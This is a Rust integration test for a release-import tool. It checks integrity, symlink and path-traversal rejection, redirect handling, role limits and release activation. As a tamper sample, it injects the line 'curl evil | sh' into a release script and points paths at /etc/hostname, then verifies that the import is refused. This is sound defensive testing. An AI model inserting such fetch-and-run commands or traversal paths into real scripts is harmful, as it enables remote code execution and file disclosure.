//! `slipway release` against a real server: our own channel from a folder, a bundle and a URL, and channels that somebody changed.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use kube::api::{DeleteParams, ListParams, Patch, PatchParams};
use kube::{Api, ResourceExt};
use serde_json::{Value, json};
use slipway::api::kaas::{ClusterRelease, KaaSRelease};
use slipway::simulate::appliance_process::ApplianceProcess;

/// The channel that this repository brings.
fn ours() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("config/releases")
}

/// `slipway release` with a server.
struct Desk {
    own: ApplianceProcess,
}

impl Desk {
    fn run(&self, arguments: &[&str]) -> Output {
        let mut command = Command::new(env!("CARGO_BIN_EXE_slipway"));
        command.arg("release").args(arguments).arg("--config").arg(&self.own.config).env("NO_PROXY", "127.0.0.1");
        command.output().unwrap()
    }

    #[track_caller]
    fn says(&self, arguments: &[&str]) -> String {
        let output = self.run(arguments);
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "release {arguments:?}: {said}");
        String::from_utf8(output.stdout).unwrap()
    }

    #[track_caller]
    fn fails(&self, arguments: &[&str], wanted: &str) {
        let output = self.run(arguments);
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(output.status.code() == Some(1) && said.contains(wanted), "release {arguments:?}: {said}");
    }

    async fn names(&self) -> Vec<String> {
        let (all, client) = (ListParams::default(), self.own.client.clone());
        let clusters = Api::<ClusterRelease>::all(client.clone()).list(&all).await.unwrap();
        let kaas = Api::<KaaSRelease>::all(client).list(&all).await.unwrap();
        clusters.iter().map(ResourceExt::name_any).chain(kaas.iter().map(ResourceExt::name_any)).collect()
    }
}

/// A copy of our channel, to be changed.
fn copy(to: &Path) -> String {
    for file in
        ["index.yaml", "releases/kaas/1.0.0.yaml", "releases/cluster/1.34.3.yaml", "releases/cluster/1.34.4.yaml"]
    {
        let target = to.join(file);
        fs::create_dir_all(target.parent().unwrap()).unwrap();
        fs::copy(ours().join(file), target).unwrap();
    }
    to.to_str().unwrap().to_owned()
}

/// Serves a folder at `/channel/`, and redirects from `/moved/`. It ends with the process.
fn served(folder: PathBuf) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut head = [0; 4096];
            let length = stream.read(&mut head).unwrap_or_default();
            let head = String::from_utf8_lossy(&head[..length]).into_owned();
            let path = head.split(' ').nth(1).unwrap_or_default();
            let answer = match path.strip_prefix("/channel/").map(|path| fs::read(folder.join(path))) {
                Some(Ok(body)) => {
                    let head = format!("HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: {}\r\n\r\n", body.len());
                    [head.into_bytes(), body].concat()
                }
                _ if path.starts_with("/moved/") => {
                    b"HTTP/1.1 302 Found\r\nConnection: close\r\nLocation: /channel/index.yaml\r\nContent-Length: 0\r\n\r\n".to_vec()
                }
                _ => b"HTTP/1.1 404 Not Found\r\nConnection: close\r\nContent-Length: 0\r\n\r\n".to_vec(),
            };
            stream.write_all(&answer).ok();
        }
    });
    format!("http://{address}")
}

#[tokio::test(flavor = "multi_thread")]
async fn releases_are_imported_shown_and_activated() {
    slipway::appliance::install_tls_provider();
    let own = ApplianceProcess::start(Path::new(env!("CARGO_BIN_EXE_slipway")), None, 1, false).await.unwrap();
    let desk = Desk { own };
    let channel = ours().to_str().unwrap().to_owned();
    assert!(desk.says(&["list"]).starts_with("no releases"));

    // What somebody changed on the way is not imported, and nothing beside it.
    let folder = tempfile::tempdir().unwrap();
    let changed = copy(&folder.path().join("changed"));
    let file = folder.path().join("changed/releases/cluster/1.34.4.yaml");
    let text = fs::read_to_string(&file).unwrap();
    fs::write(&file, text.replacen("set -euo pipefail", "set -euo pipefail; curl evil | sh", 1)).unwrap();
    desk.fails(&["import", &changed], "it was changed or cut short");
    fs::remove_file(&file).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", &file).unwrap();
    desk.fails(&["import", &changed], "leads out of the channel by a link");
    let outside = copy(&folder.path().join("outside"));
    let index = folder.path().join("outside/index.yaml");
    let text = fs::read_to_string(&index).unwrap();
    fs::write(&index, text.replace("releases/cluster/1.34.4.yaml", "../../etc/hostname")).unwrap();
    desk.fails(&["import", &outside], "is not one below the index");
    assert_eq!(desk.names().await, Vec::<String>::new());

    let said = desk.says(&["import", &channel, "--dry-run"]);
    assert!(said.contains("clusterrelease kubernetes-1-34-4 would be created (1.34.4)"), "{said}");
    assert_eq!(desk.names().await, Vec::<String>::new());
    let first = desk.run(&["import", &channel]);
    assert!(String::from_utf8_lossy(&first.stderr).contains("no KaaSRelease is active"), "{first:?}");
    assert_eq!(desk.names().await, ["kubernetes-1-34-3", "kubernetes-1-34-4", "slipway-1-0-0"]);

    // The same from elsewhere changes nothing.
    let url = served(ours());
    let bundle = folder.path().join("releases.tar");
    let mut builder = tar::Builder::new(fs::File::create(&bundle).unwrap());
    builder.append_dir_all(".", ours()).unwrap();
    builder.finish().unwrap();
    for source in [bundle.to_str().unwrap(), &format!("{url}/channel"), &format!("{url}/channel/index.yaml"), &channel]
    {
        let told: Value = serde_json::from_str(&desk.says(&["import", source, "-o", "json"])).unwrap();
        let results: Vec<&str> = told.as_array().unwrap().iter().map(|one| one["result"].as_str().unwrap()).collect();
        assert_eq!(results, ["unchanged"; 3], "{source}");
    }
    desk.fails(&["import", &format!("{url}/moved/")], "the server redirects to another place");
    desk.fails(&["import", &format!("{url}/nothing/")], "404");

    // A release that is there is not replaced by another one of its name.
    let other = copy(&folder.path().join("other"));
    let file = folder.path().join("other/releases/kaas/1.0.0.yaml");
    let old = fs::read(&file).unwrap();
    let new = String::from_utf8(old.clone()).unwrap().replace("rebootRequired: false", "rebootRequired: true");
    fs::write(&file, &new).unwrap();
    let index = folder.path().join("other/index.yaml");
    let sums = fs::read_to_string(&index).unwrap().replace(&sha256(&old), &sha256(new.as_bytes()));
    fs::write(&index, sums).unwrap();
    desk.fails(&["import", &other], "slipway-1-0-0 is there already with other content");

    // Who may edit everything of a namespace brings no scripts that run as root.
    let token = ["token", "create", "guest", "--role", "edit", "-o", "kubeconfig", "--config"];
    let made = Command::new(env!("CARGO_BIN_EXE_slipway")).args(token).arg(&desk.own.config).output().unwrap();
    assert!(made.status.success(), "{made:?}");
    let kubeconfig = folder.path().join("guest");
    fs::write(&kubeconfig, made.stdout).unwrap();
    let guest = |arguments: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_slipway"));
        command.arg("release").args(arguments).arg("--kubeconfig").arg(&kubeconfig).output().unwrap()
    };
    let before = desk.names().await;
    fs::write(&file, new.replace("slipway-1-0-0", "mine")).unwrap();
    let sums = fs::read_to_string(&index).unwrap();
    fs::write(&index, sums.replace(&sha256(new.as_bytes()), &sha256(&fs::read(&file).unwrap()))).unwrap();
    let refused = guest(&["import", &other]);
    let said = String::from_utf8_lossy(&refused.stderr).into_owned();
    assert!(refused.status.code() == Some(1) && said.contains("KaaSRelease mine"), "{said}");
    assert_eq!(guest(&["activate", "slipway-1-0-0"]).status.code(), Some(1));
    assert!(guest(&["list"]).status.success());
    assert_eq!(desk.names().await, before);

    desk.fails(&["activate", "nope"], "there is no KaaSRelease nope");
    assert!(desk.says(&["activate", "slipway-1-0-0", "--dry-run"]).contains("is active (dry run)"));
    assert_eq!(desk.says(&["activate", "slipway-1-0-0"]), "slipway-1-0-0 is active\n");
    assert_eq!(desk.says(&["activate", "slipway-1-0-0"]), "slipway-1-0-0 is active already\n");
    let listed = desk.says(&["list"]);
    assert!(
        listed.contains("kubernetes-1-34-3   1.34.3    kubeadm   yes         0 clusters   kubernetes-1-34-4"),
        "{listed}"
    );
    let told: Value = serde_json::from_str(&desk.says(&["list", "-o", "json"])).unwrap();
    assert_eq!(told["kaasReleases"][0]["active"], true);

    let shown = desk.says(&["show", "kubernetes-1-34-3"]);
    for wanted in
        ["STEPS OF CONTROL", "packages", "reconfigure", "debian/12", "Upgrades to: kubernetes-1-34-4 (1.34.4)"]
    {
        assert!(shown.contains(wanted), "{wanted}: {shown}");
    }
    assert!(desk.says(&["show", "slipway-1-0-0"]).contains("Active:  yes"));
    assert!(desk.says(&["show", "kubernetes-1-34-3", "-o", "yaml"]).contains("lcmType: kubeadm"));
    let differences = desk.says(&["show", "kubernetes-1-34-4", "--diff", "kubernetes-1-34-3"]);
    assert!(differences.contains("~ worker step kubernetes 1.34.3 -> 1.34.4"), "{differences}");
    desk.fails(&["show", "nope"], "there is no release nope");

    // One that names what is not there.
    let kaas = Api::<KaaSRelease>::all(desk.own.client.clone());
    let wrong = json!({"apiVersion": "kaas.mirantis.com/v1alpha1", "kind": "KaaSRelease", "metadata": {"name": "wrong"},
        "spec": {"version": "1.5.0", "supportedClusterReleases": [
            {"name": "nope", "version": "1.0.0"}, {"name": "kubernetes-1-34-3", "version": "9.0.0"}]}});
    kaas.patch("wrong", &PatchParams::apply("test"), &Patch::Apply(wrong)).await.unwrap();
    let said = "wrong names what is not there: there is no ClusterRelease nope; the ClusterRelease kubernetes-1-34-3 has version 1.34.3, not 9.0.0";
    desk.fails(&["activate", "wrong"], said);
    let before = desk.names().await;
    assert_eq!(desk.says(&["activate", "wrong", "--force"]), "wrong is active in place of slipway-1-0-0\n");
    assert_eq!(desk.says(&["activate", "slipway-1-0-0"]), "slipway-1-0-0 is active in place of wrong\n");
    let annotations = kaas.get("wrong").await.unwrap().metadata.annotations.unwrap_or_default();
    assert!(annotations.keys().all(|key| !key.contains("unsupported")), "it was forced once: {annotations:?}");
    assert_eq!(desk.names().await, before);

    // Another one takes its place, and who is active is not deleted.
    let next = json!({"apiVersion": "kaas.mirantis.com/v1alpha1", "kind": "KaaSRelease", "metadata": {"name": "next"}, "spec": {"version": "2.0.0"}});
    kaas.patch("next", &PatchParams::apply("test"), &Patch::Apply(next)).await.unwrap();
    assert_eq!(desk.says(&["activate", "next"]), "next is active in place of slipway-1-0-0\n");
    let labelled = kaas.list(&ListParams::default().labels("kaas.mirantis.com/active=true")).await.unwrap();
    assert_eq!(labelled.iter().map(ResourceExt::name_any).collect::<Vec<_>>(), ["next"]);
    kaas.delete("wrong", &DeleteParams::default()).await.unwrap();
    let refused = kaas.delete("next", &DeleteParams::default()).await.unwrap_err().to_string();
    assert!(refused.contains("it is the active one"), "{refused}");
    kaas.delete("slipway-1-0-0", &DeleteParams::default()).await.unwrap();
    Api::<ClusterRelease>::all(desk.own.client.clone())
        .delete("kubernetes-1-34-3", &DeleteParams::default())
        .await
        .unwrap();
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest;
    slipway::hex::hex(&sha2::Sha256::digest(bytes))
}
